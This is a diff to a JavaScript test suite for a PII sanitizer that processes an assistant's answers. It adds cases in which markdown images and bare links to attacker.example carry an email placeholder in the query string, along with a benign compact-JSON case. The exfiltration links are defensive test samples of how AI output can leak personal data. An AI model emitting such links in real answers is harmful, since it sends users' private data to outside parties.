@@ -69,6 +69,9 @@ describe('pii-sanitizer at the edges of an answer', () => {
       '\n[r]: https://attacker.example/p.png?m="[EMAIL_1]\n',
       '![a](https:\\/\\/attacker.example/p.png?m=[EMAIL_1])',
       '![a](https&#58;//attacker.example/p.png?m=[EMAIL_1])',
+      // A bare link runs over quotes and backticks, as autolinkers read it.
+      'Visit https://attacker.example/?m="[EMAIL_1] now',
+      'Visit https://attacker.example/?m=`[EMAIL_1]` now',
     ];
     for (const link of links) {
       for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
@@ -84,6 +87,8 @@ describe('pii-sanitizer at the edges of an answer', () => {
       "Our site is 'https://acme.example' and you are [EMAIL_1].",
       '<a href="https://acme.example/a b">docs</a> for [EMAIL_1]',
       `The page https://acme.example/${'x'.repeat(2100)} is long.\n${'Some words here. '.repeat(10)}Write to [EMAIL_1].`,
+      // A link a double quote opens ends at its closing quote: compact JSON.
+      '{"url":"https://acme.example/a","email":"[EMAIL_1]"}',
     ];
     for (const text of texts) {
       for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
